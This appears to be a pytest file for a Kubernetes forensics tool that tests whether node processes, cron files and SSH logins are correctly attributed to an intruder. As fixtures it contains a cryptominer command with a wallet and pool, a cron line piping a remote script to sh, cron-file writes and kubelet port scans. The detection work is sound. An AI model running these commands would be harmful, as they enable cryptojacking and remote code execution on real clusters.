"""Claims about what on a node is told as an intruder's: what came before them is not, and what is doubtful says so."""

from __future__ import annotations

from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from kubewitness.incident.investigate import Options, investigate
from kubewitness.model.document import Document
from kubewitness.model.incident import Incident, Step
from kubewitness.rules.loader import RuleSet
from tests.incident.logs import DOOR, Log, daemonset
from tests.incident.node.test_nodes import RECORDED, node, only
from tests.incident.test_intrusions import open_the_door

UID = "11111111-2222-4333-8444-555555555555"
CONTAINER = "ab" * 32
WALLET = "46EPFzvnX5GH61ejkPpNcRNm8kVjs8oHS9VwCkKRCrJX27XEW2y1NPLfSa54DGHxqnKfzDUVW1jzBfekk3hrCV"
MINER = f"./.system -o pool.supportxmr.com:3333 -u {WALLET}"
BEFORE, AFTER = "Mon Mar  2 01:00:09 2026", "Mon Mar  2 13:10:09 2026"


def machine(folder: Path, started: str, command: str) -> None:
    """A machine on which `command` runs in pod shop/web-0."""
    root = folder / "nodes" / "node-a"
    log = root / "var/log/pods" / f"shop_web-0_{UID}" / "web" / "0.log"
    log.parent.mkdir(parents=True)
    log.write_text("2026-03-02T01:00:00.000000000Z stdout F ready\n")
    (root / "ps.txt").write_text(
        "USER         PID    PPID                  STARTED COMMAND\n"
        "root           1       0 Mon Mar  2 01:00:00 2026 /sbin/init\n"
        f"root        4411       1 {started} {command}\n"
    )
    (root / "cgroups.txt").write_text(f"1 4:memory:/\n4411 4:memory:/kubepods/besteffort/pod{UID}/{CONTAINER}\n")


def entered(folder: Path, command: str = "id") -> None:
    """An audit log in which an intruder runs `command` in pod shop/web-0 at 13:10."""
    log = Log()
    log.quiet_day()
    open_the_door(log)
    query = "?" + "&".join(f"command={word}" for word in command.split())
    log.request("create", "pods", subresource="exec", namespace="shop", name="web-0", at="13:10", query=query, code=101,
                by="system:anonymous", address="203.0.113.77", agent="python-requests/2.31", reason=DOOR)  # fmt: skip
    log.write(folder / "audit.log")


def looked_at(folder: Path, rules: RuleSet) -> Document:
    return investigate([str(folder)], rules=rules, options=Options())


def of_the_log(document: Document) -> Incident:
    (incident,) = [incident for incident in document.incidents if incident.audit_ids]
    return incident


def on_node(incident: Incident) -> list[Step]:
    return [step for step in incident.steps if any(rule.startswith("host/") for rule in step.rules)]


def test_what_ran_in_a_pod_before_the_intruder_entered_it_is_not_told_as_theirs(tmp_path: Path, rules: RuleSet) -> None:
    entered(tmp_path)
    machine(tmp_path, BEFORE, MINER)
    document = looked_at(tmp_path, rules)
    theirs = of_the_log(document)
    (other,) = [incident for incident in document.incidents if incident is not theirs]
    assert not on_node(theirs)
    assert "host/miner_process" in {rule for step in other.steps for rule in step.rules}
    for incident in (theirs, other):
        assert any("before the intruder" in text.en and "早于" in text.zh for text in incident.limitations)


def test_an_innocent_program_that_was_there_before_is_a_finding_of_no_incident(tmp_path: Path, rules: RuleSet) -> None:
    entered(tmp_path)
    machine(tmp_path, BEFORE, "/tmp/job --fast")
    document = looked_at(tmp_path, rules)
    assert not on_node(only(document))
    assert [f.incident for f in document.findings if f.rule == "host/hidden_program_running"] == [""]


def test_what_began_after_the_intruder_entered_is_inferred_to_be_theirs(tmp_path: Path, rules: RuleSet) -> None:
    entered(tmp_path)
    machine(tmp_path, AFTER, MINER)
    (step,) = on_node(only(looked_at(tmp_path, rules)))
    assert step.inferred
    assert "inferred" in step.why.en
    assert "推断" in step.why.zh


def test_the_state_tells_what_was_found_on_a_node_though_no_object_was_made(tmp_path: Path, rules: RuleSet) -> None:
    entered(tmp_path)
    machine(tmp_path, AFTER, MINER)
    effect = only(looked_at(tmp_path, rules)).status[0][1]
    assert effect.en.startswith("Nothing was created. Found on node-a: Miner is running")
    assert effect.zh.startswith("未创建任何对象。在 node-a 上发现：")


def test_the_state_tells_nothing_of_a_node_where_nothing_is_tied_to_the_intruder(
    tmp_path: Path, rules: RuleSet
) -> None:
    entered(tmp_path)
    machine(tmp_path, BEFORE, MINER)
    assert of_the_log(looked_at(tmp_path, rules)).status[0][1].en == "Nothing was created"


def test_the_very_command_that_the_intruder_asked_for_is_theirs(tmp_path: Path, rules: RuleSet) -> None:
    entered(tmp_path, MINER)
    machine(tmp_path, AFTER, MINER)
    (step,) = on_node(only(looked_at(tmp_path, rules)))
    assert not step.inferred


def test_a_process_of_unknown_age_in_an_entered_pod_says_so(tmp_path: Path, rules: RuleSet) -> None:
    entered(tmp_path)
    machine(tmp_path, "                   01:00", MINER)
    (step,) = on_node(only(looked_at(tmp_path, rules)))
    assert step.inferred
    assert "not known" in step.why.en


@pytest.mark.parametrize(
    ("command", "theirs"),
    [
        ("sh -c echo+x>>/host/etc/cron.d/.sysstat", True),
        ("cat /host/etc/cron.d/.sysstat", False),
        ("cat /host/etc/cron.d/.sysstat 2>/dev/null", False),
        ("cp a /host/etc/cron.d/.sysstat-old", False),
    ],
)
def test_who_only_reads_a_file_did_not_write_it(
    command: str, theirs: bool, tmp_path: Path, rules: RuleSet
) -> None:  # fmt: skip
    entered(tmp_path, command)
    machine(tmp_path, BEFORE, "/app/web")
    cron = tmp_path / "nodes/node-a/etc/cron.d/.sysstat"
    cron.parent.mkdir(parents=True)
    cron.write_text("*/10 * * * * root wget -q -O - http://203.0.113.35/u.sh | sh\n")
    assert bool(on_node(of_the_log(looked_at(tmp_path, rules)))) is theirs


def test_commands_that_left_a_line_because_they_failed_are_not_told_as_successes(
    tmp_path: Path, rules: RuleSet
) -> None:
    steps = only(looked_at(node(tmp_path), rules)).steps
    (fan_out,) = [step for step in steps if "host/kubelet_exec_fan_out" in step.rules]
    assert fan_out.requests == 4
    assert fan_out.succeeded == 0


def test_commands_through_a_kubelet_that_is_closed_are_not_said_to_have_passed_by_the_api_server(
    rules: RuleSet,
) -> None:
    document = investigate([str(RECORDED / "nodes_proxy" / "evidence" / "nodes")], rules=rules, options=Options())
    incident = only(document)
    assert incident.entry_point
    assert incident.verdict
    assert "past the API server" not in incident.entry_point.description.en
    assert "nodes/proxy" in incident.entry_point.description.en
    assert "nodes/proxy" in incident.entry_point.description.zh
    assert incident.verdict.verdict == "undetermined", "one download in one container is no worm"


def test_an_open_kubelet_through_which_no_command_is_seen_is_an_inferred_way_in(tmp_path: Path, rules: RuleSet) -> None:
    incident = only(looked_at(node(tmp_path, fan_out=False), rules))
    assert incident.root_causes
    assert any("inferred" in text.en for text in incident.limitations)


def test_nobody_is_told_to_kill_a_process_that_is_merely_unusual(tmp_path: Path, rules: RuleSet) -> None:
    folder = node(tmp_path)
    listed = folder / "nodes/worker-3/ps.txt"
    listed.write_text(listed.read_text() + "admin       5000       1 Sun Nov 22 03:30:00 2026 /tmp/install --quiet\n")
    incident = only(looked_at(folder, rules))
    (stop,) = [action for action in incident.actions if action.phase == "stop"]
    assert "4411" in stop.command
    assert "5000" not in stop.command
    assert incident.status[0][1].en.startswith("1 process of the intruder was")
    (step,) = [step for step in incident.steps if "/tmp/install" in step.command]
    assert step.inferred
    assert "somebody else's" in step.why.en


def test_sentences_of_the_story_end(tmp_path: Path, rules: RuleSet) -> None:
    story = only(looked_at(node(tmp_path), rules)).story
    assert all(text.en.rstrip().endswith((".", "…")) for text in story)
    assert all(text.zh.rstrip().endswith(("。", "…")) for text in story)


def test_a_scan_alone_may_be_the_owners_own_and_says_so(tmp_path: Path, rules: RuleSet) -> None:
    machine(tmp_path, BEFORE, "nmap -p 10250 --min-rate 1000 10.0.0.0/16")
    incident = only(looked_at(tmp_path, rules))
    assert "attacks" not in incident.title.en
    assert any("Harmless if" in text.en and "无害" in text.zh for text in incident.limitations)


def test_an_order_names_the_node_as_the_cluster_does_though_two_machines_claim_it(
    tmp_path: Path, rules: RuleSet
) -> None:
    for name in ("one", "two"):
        machine(tmp_path / name, BEFORE, MINER)
        root = tmp_path / name / "nodes/node-a"
        (root / "cgroups.txt").unlink()  # on the machine itself, in no pod
        (root / "etc").mkdir()
        (root / "etc/hostname").write_text("node-a\n")
        with (root / "ps.txt").open("a") as listing:
            listing.write(f"root 9{len(name)} 1 Sun Nov 22 03:00:00 2026 /usr/sbin/agent-{name}\n")
    incidents = looked_at(tmp_path, rules).incidents
    assert len({incident.nodes for incident in incidents}) == 2
    for incident in incidents:
        assert any(action.command.endswith("spec.nodeName=node-a") for action in incident.actions)


def test_a_process_that_one_rule_is_sure_of_is_not_called_somebody_elses_by_another(
    tmp_path: Path, rules: RuleSet
) -> None:
    machine(tmp_path, BEFORE, "/tmp/masscan 10.0.0.0/8 -p10250 --rate=20000")
    steps = on_node(only(looked_at(tmp_path, rules)))
    assert {rule for step in steps for rule in step.rules} == {"host/scanner_process", "host/hidden_program_running"}
    assert not [step.why.en for step in steps if step.inferred]


def sandbox(folder: Path, at: str) -> None:
    """The runtime's log of pod shop/web-0, by the node's clock."""
    meta = f"&PodSandboxMetadata{{Name:web-0,Uid:{UID},Namespace:shop,Attempt:0,}}"
    (folder / "nodes/node-a/containerd.log").write_text(
        f'time="{at}" level=info msg="RunPodSandbox for {meta}"\n'
        f'time="{at}" level=info msg="RunPodSandbox for {meta} returns sandbox id \\"{"5a" * 32}\\""\n'
    )


def bound(log: Log, at: str) -> None:
    """The scheduler binds shop/web-0."""
    log.request("create", "pods", subresource="binding", namespace="shop", name="web-0", at=at,
                by="system:kube-scheduler", address="10.0.0.10", agent="kube-scheduler/v1.31.0", code=201)  # fmt: skip


@pytest.mark.parametrize(("runtime", "theirs"), [("2026-03-02T09:00:01Z", True), ("2026-03-02T08:30:01Z", False)])
def test_a_clock_that_runs_behind_does_not_hide_what_came_after(
    runtime: str, theirs: bool, tmp_path: Path, rules: RuleSet
) -> None:
    """The miner began at 13:10:09 by the node's clock, the intruder entered at 13:10 (or 13:39:50) by the server's."""
    log = Log()
    log.quiet_day()
    open_the_door(log)
    entered_at = "13:10" if theirs else "13:39:50"
    log.request("create", "pods", subresource="exec", namespace="shop", name="web-0", at=entered_at,
                query="?command=sh", code=101, by="system:anonymous", address="203.0.113.77", agent="curl/8",
                reason=DOOR)  # fmt: skip
    bound(log, "09:00:00")
    log.write(tmp_path / "audit.log")
    machine(tmp_path, AFTER, MINER)
    sandbox(tmp_path, runtime)
    document = looked_at(tmp_path, rules)
    (step,) = on_node(of_the_log(document))
    (clock,) = [one for one in document.coverage.clocks if one.node == "node-a"]
    assert step.inferred
    if theirs:
        assert clock.moved == 0
        assert step.time.startswith("2026-03-02T13:10:09")
    else:
        assert clock.high is not None
        assert -1800 <= clock.moved <= -1798
        assert step.time.startswith("2026-03-02T13:40:08")
        assert any("node-a" in text.en and "behind" in text.en for text in document.coverage.limitations)


def test_what_runs_in_a_pod_of_the_intruders_own_workload_did_not_wait_for_a_command_in_it(
    tmp_path: Path, rules: RuleSet
) -> None:
    log = Log()
    log.quiet_day()
    open_the_door(log)
    theirs: dict[str, Any] = {"by": "system:anonymous", "address": "203.0.113.77", "agent": "curl/8", "reason": DOOR}
    log.request("create", "daemonsets", namespace="shop", name="web", at="13:09:30",
                body=daemonset("web", "alpine", "shop"), **theirs)  # fmt: skip
    log.cascade("web", at="13:09:31", namespace="shop")
    log.request("create", "pods", subresource="exec", namespace="shop", name="web-bx2z7", at="13:10:10",
                query="?command=id", code=101, **theirs)  # fmt: skip
    log.write(tmp_path / "audit.log")
    machine(tmp_path, AFTER, MINER)  # began a second before the intruder entered
    logs = tmp_path / "nodes" / "node-a" / "var/log/pods"
    (logs / f"shop_web-0_{UID}").rename(logs / f"shop_web-bx2z7_{UID}")
    (step,) = on_node(of_the_log(looked_at(tmp_path, rules)))
    assert "which the intruder made" in step.why.en
    assert not step.inferred
    assert [one.kind for one in step.path][:3] == ["request", "object", "pod"]


def test_one_chain_leads_from_the_request_to_the_process(tmp_path: Path, rules: RuleSet) -> None:
    entered(tmp_path, MINER)
    machine(tmp_path, AFTER, MINER)
    incident = of_the_log(looked_at(tmp_path, rules))
    (step,) = on_node(incident)
    assert [one.kind for one in step.path] == ["request", "pod", "node", "container", "process"]
    assert step.path[0].name in incident.audit_ids
    known = {(one.source, one.target) for one in incident.edges}
    without_node = [one for one in step.path if one.kind != "node"]
    assert set(pairwise(without_node)) <= known
    assert all(one.evidence and one.why.en and one.why.zh for one in incident.edges)


AUTH = "Mar  2 13:{minute}:00 node-a sshd[99]: {what} for root from {address} port 50111 ssh2\n"


@pytest.mark.parametrize(
    ("address", "what", "severity"),
    [
        ("203.0.113.77", "Accepted publickey", "high"),
        ("203.0.113.77", "Failed password", "low"),
        ("203.0.113.78", "Accepted publickey", ""),
        ("10.0.0.9", "Accepted publickey", ""),
    ],
)
def test_a_login_from_the_intruders_address_is_told(
    address: str, what: str, severity: str, tmp_path: Path, rules: RuleSet
) -> None:
    entered(tmp_path)
    machine(tmp_path, BEFORE, "/app/web")
    auth = tmp_path / "nodes/node-a/var/log/auth.log"
    auth.parent.mkdir(parents=True, exist_ok=True)
    auth.write_text("".join(AUTH.format(minute=20 + n, what=what, address=address) for n in range(3)))
    document = looked_at(tmp_path, rules)
    found = [step for step in on_node(of_the_log(document)) if "host/login_from_intruder" in step.rules]
    assert [step.severity for step in found] == ([severity] if severity else [])
    assert all(step.inferred and "inferred" in step.why.en for step in found)
